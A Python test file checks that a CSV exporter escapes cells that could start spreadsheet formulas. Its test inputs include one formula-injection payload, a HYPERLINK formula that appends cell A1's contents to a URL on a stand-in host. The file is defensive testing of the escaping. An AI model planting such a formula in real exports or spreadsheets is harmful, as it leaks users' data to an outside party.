import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tfplay.text.spreadsheets import records_to_csv, to_csv


def cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://a.example/?q="&A1,"open")',
        "@SUM(1+1)",
        "+1+1",
        "-1+1",
        "-2-3",
        "\t=1",
        "\r=1",
        "\n=1",
        "\ttext",
        " =1",
        "\u00a0=1",
        "'=1",
        '"=1',
        "“=1",
        "\ufeff=1",
        "\u200b=1",
        "\x00=1",
        "＝1",
        "＋1",
        "－1+1",
        "＠SUM",
        "−1+1",
        "+49 170 1",
        "=",
        "-",
    ],
)
def test_a_text_that_might_be_a_formula_is_marked_as_text(formula):
    assert cells(to_csv([[formula, "next"]])) == [[f"'{formula}", "next"]]


@pytest.mark.parametrize(
    "text", ["-0.5", "+3", "-1e-05", "1.5", ".5", "-.5", "plain", "a=b", "हम दोस्त हैं", "", "(1)"]
)
def test_numbers_and_other_texts_stay_as_they_are(text):
    assert cells(to_csv([["x", text]])) == [["x", text]]


def test_numbers_are_no_texts_and_what_is_unknown_is_empty():
    assert to_csv([[-0.5, -3, None, True]]) == "\ufeff-0.5,-3,,True\r\n"


def test_names_of_columns_are_marked_too():
    table = records_to_csv([{"=1+1": "a", "b": -2.0}, {"b": "@x", "c": "d"}])
    assert cells(table) == [["'=1+1", "b", "c"], ["a", "-2.0", ""], ["", "'@x", "d"]]


def test_no_record_gives_an_empty_table():
    assert cells(records_to_csv([])) in ([], [[]])


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1)))
def test_all_that_was_said_is_there_and_nothing_begins_a_formula(lines):
    found = [cell for line in cells(to_csv(lines)) for cell in line]
    given_ = [cell for line in lines for cell in line]
    assert len(found) == len(given_)
    for shown, cell in zip(found, given_, strict=True):
        assert shown in (cell, f"'{cell}")
        if shown and not shown.removeprefix("-").replace(".", "").isdigit():
            assert shown.strip()[:1] not in ("=", "@", "＝", "＠")
